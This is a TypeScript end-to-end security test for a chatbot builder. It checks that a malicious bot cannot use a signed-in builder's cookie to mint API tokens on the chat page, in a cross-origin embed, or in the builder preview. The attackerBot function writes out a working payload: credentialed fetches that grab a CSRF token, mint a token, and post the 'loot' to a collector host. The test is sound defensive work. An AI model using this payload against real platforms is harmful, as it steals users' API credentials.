import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { FrameLocator, Locator, Page } from "playwright-core";
import { createBuilderHarness, type BuilderHarness } from "../builder/builder-harness.js";
import { buildBot, say } from "../helpers/bot-builder.js";
import { createClient } from "../helpers/http-client.js";
import { hostPage, startHostSite, type HostSite } from "./host-site.js";

/**
 * Issue #15, findings 1 and 2: a bot whose browser-side code (a client-side Set variable) and
 * client-side HTTP request blocks try to mint an API token with the signed-in builder user's
 * cookie, opened by that user on the chat page, in an embed on another origin, and in the
 * builder's preview. Nothing may be minted, and the visitor chat must still work.
 */
type Json = Record<string, any>;

function attackerBot(api: string, collector: string): Json {
  const code = `
    const status = async (response) => ({ status: response.status, body: await response.json().catch(() => null) });
    const failed = (error) => ({ status: 0, body: String(error) });
    const me = await fetch("${api}/api/auth/me", { credentials: "include" }).then(status, failed);
    const minted = await fetch("${api}/api/v1/tokens", {
      method: "POST",
      credentials: "include",
      headers: { "content-type": "application/json", "x-csrf-token": String(me.body?.csrfToken ?? "") },
      body: JSON.stringify({ name: "stolen-by-code" }),
    }).then(status, failed);
    return JSON.stringify({ me: me.status, mint: minted.status, value: minted.body?.value ?? null });`;
  const request = (id: string, webhook: Json, mapping: Json[]) => ({
    id,
    type: "Webhook",
    options: { isExecutedOnClient: true, isCustomBody: true, webhook, responseVariableMapping: mapping },
  });
  return buildBot({
    groups: [
      {
        id: "g-1",
        blocks: [
          say("b-hello", "Welcome, visitor"),
          {
            id: "b-code",
            type: "Set variable",
            options: { variableId: "v-code", isExecutedOnClient: true, isCode: true, expressionToEvaluate: code },
          },
          request("b-me", { method: "GET", url: `${api}/api/auth/me` }, [
            { id: "m-1", variableId: "v-csrf", bodyPath: "data.csrfToken" },
            { id: "m-2", variableId: "v-me-status", bodyPath: "statusCode" },
          ]),
          request(
            "b-mint",
            {
              method: "POST",
              url: `${api}/api/v1/tokens`,
              headers: [{ id: "h-1", key: "x-csrf-token", value: "{{C}}" }],
              body: '{"name":"stolen-by-blocks"}',
            },
            [
              { id: "m-3", variableId: "v-token", bodyPath: "data.value" },
              { id: "m-4", variableId: "v-mint-status", bodyPath: "statusCode" },
            ],
          ),
          request("b-send", { method: "POST", url: collector, body: '{"loot":"{{T}}"}' }, []),
          { id: "b-name", type: "text input", options: { variableId: "v-name", labels: { placeholder: "Your name" } } },
          say("b-bye", "Thanks {{Name}}"),
        ],
      },
    ],
    variables: [
      { id: "v-code", name: "CodeReport" },
      { id: "v-csrf", name: "C" },
      { id: "v-me-status", name: "MeStatus" },
      { id: "v-token", name: "T" },
      { id: "v-mint-status", name: "MintStatus" },
      { id: "v-name", name: "Name" },
    ],
    settings: { typingEmulation: { enabled: false } },
  });
}

describe("bot code never acts as the signed-in builder user", { timeout: 180_000 }, () => {
  let harness: BuilderHarness;
  let site: HostSite;
  let attacker: { token: string; workspaceId: string };
  let page: Page;
  /** The victim's API tokens before any attack (the harness made one). */
  let tokensBefore: string[];

  beforeAll(async () => {
    harness = await createBuilderHarness();
    site = await startHostSite();
    attacker = await harness.server.createUser("attacker@example.com");
    // The victim: the builder's owner, signed in through the login form (the cookie is in the browser).
    page = await harness.signedInPage();
    tokensBefore = await victimTokens();
  });
  afterAll(async () => {
    await harness?.close();
    await site?.close();
  });

  const victimTokens = async () =>
    ((await harness.api("GET", "/api/v1/tokens")).tokens as { name: string }[]).map((token) => token.name);

  /** The attacker's bot, published from the attacker's own workspace. */
  async function publishAttackerBot() {
    const api = createClient(harness.server.baseUrl, attacker.token);
    const bot = attackerBot(harness.server.url, `${site.origin}/echo`);
    const created = await api.post("/v1/bots", { workspaceId: attacker.workspaceId, bot });
    const botId = created.body.bot.id as string;
    const published = await api.post(`/v1/bots/${botId}/publish`);
    return { botId, publicId: published.body.publicId as string, bot };
  }

  async function attackerResults(botId: string) {
    const rows = await harness.server.ctx.store.db
      .selectFrom("results")
      .select(["id", "variables"])
      .where("botId", "=", botId)
      .execute();
    const answers = await harness.server.ctx.store.db
      .selectFrom("answers")
      .select(["blockId", "content"])
      .where(
        "resultId",
        "in",
        rows.map((row) => row.id),
      )
      .execute();
    const byName = (stored: { name: string; value?: unknown }[]) =>
      Object.fromEntries(stored.map((variable) => [variable.name, variable.value])) as Record<string, unknown>;
    return { variables: rows.map((row) => byName(JSON.parse(row.variables))), answers };
  }

  /** The visitor's side of the chat works: bubbles, the answer, the next bubble. */
  async function chatsAsVisitor(chat: FrameLocator | Page | Locator) {
    await chat.getByText("Welcome, visitor").waitFor();
    await chat.getByPlaceholder("Your name").fill("Ada");
    await chat.getByPlaceholder("Your name").press("Enter");
    await chat.getByText("Thanks Ada").waitFor();
  }

  function expectNothingStolen(variables: Record<string, unknown>) {
    expect(JSON.stringify(variables)).not.toContain("pat_");
    expect(variables.T ?? null).toBeNull();
    expect(variables.C ?? null).toBeNull();
    // Every request ran, and none got through: the frame's and the embed's requests carry no usable cookie.
    expect(variables.MeStatus).toMatch(/^\d+$/);
    expect(variables.MeStatus).not.toBe("200");
    expect(variables.MintStatus).toMatch(/^\d+$/);
    expect(variables.MintStatus).not.toBe("200");
    const report = JSON.parse(String(variables.CodeReport));
    expect(report.value).toBeNull();
    expect([report.me, report.mint]).not.toContain(200);
  }

  it("the victim is really signed in: the builder's own pages use the cookie", async () => {
    const me = await page.evaluate(async () => (await fetch("/api/auth/me")).status);
    expect(me).toBe(200);
    expect(await victimTokens()).toEqual(tokensBefore);
  });

  it("(a) on the chat page", async () => {
    const { botId, publicId } = await publishAttackerBot();
    await page.goto(`${harness.server.url}/${publicId}`);
    await chatsAsVisitor(page.frameLocator("iframe.chat-frame"));
    expect(await victimTokens()).toEqual(tokensBefore);
    const results = await attackerResults(botId);
    expect(results.answers).toEqual([{ blockId: "b-name", content: "Ada" }]);
    expect(results.variables).toHaveLength(1);
    expectNothingStolen(results.variables[0]);
  });

  it("(b) in an embed on a page of another origin", async () => {
    const { botId, publicId } = await publishAttackerBot();
    await page.goto(
      site.page(
        "/shop",
        hostPage(
          "Shop",
          `<parley-standard bot="${publicId}" style="height:600px"></parley-standard><script src="${harness.server.url}/embed.js"></script>`,
        ),
      ),
    );
    await chatsAsVisitor(page.locator("parley-standard"));
    expect(await victimTokens()).toEqual(tokensBefore);
    const results = await attackerResults(botId);
    expect(results.answers).toEqual([{ blockId: "b-name", content: "Ada" }]);
    expectNothingStolen(results.variables[0]);
  });

  it("(c) in the builder's preview of an imported copy", async () => {
    const { bot } = await publishAttackerBot();
    // The victim imports the attacker's bot as a template into their own workspace and previews it.
    const imported = await harness.api("POST", "/api/v1/bots", {
      workspaceId: harness.user.workspaceId,
      bot: { ...bot, name: "Handy template" },
    });
    const collected = () => site.requests.filter((request) => request === "POST /echo").length;
    const before = collected();
    await page.goto(`${harness.server.url}/bots/${imported.bot.id}/edit`);
    await page.getByRole("button", { name: "Preview", exact: true }).click();
    const chat = page.frameLocator('[data-testid="preview-chat"] iframe');
    await chatsAsVisitor(chat);
    expect(await victimTokens()).toEqual(tokensBefore);
    // The draft's own requests went out (the preview is faithful), without the cookie.
    await expect.poll(collected).toBe(before + 1);
    // A preview keeps its variables in its session: none holds a token.
    const sessions = await harness.server.ctx.store.db
      .selectFrom("sessions")
      .select("state")
      .where("botId", "=", imported.bot.id)
      .execute();
    expect(sessions).toHaveLength(1);
    expect(sessions[0].state).toContain("Ada");
    expect(sessions[0].state).not.toContain("pat_");
  });
});
